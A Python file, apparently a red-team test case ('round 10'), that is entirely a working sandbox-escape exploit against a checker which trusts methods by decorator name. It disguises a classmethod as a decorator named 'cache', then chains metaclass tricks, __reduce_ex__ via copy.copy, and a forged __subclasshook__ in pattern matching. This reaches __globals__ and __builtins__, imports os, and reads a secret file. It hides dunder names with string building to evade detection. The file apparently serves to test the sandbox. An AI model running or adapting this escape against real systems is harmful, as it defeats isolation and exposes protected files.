# family: red team, round 10 (decorator_named_cache_classmethod)
# type(self) is trusted in methods whose decorators are all "self decorators", judged by NAME (property,
# cache, lru_cache...). A function of the tool named cache returns classmethod(f): self is then the class and
# type(self) its metaclass, which builds a class carrying __reduce_ex__ (copy.copy -> setattr by run-time names).
import abc
import copy


def cache(function):
    return classmethod(function)


class Base(abc.ABC):
    @cache
    def kind(self):
        return type(self)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def metaclass():
    return Base().kind()


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
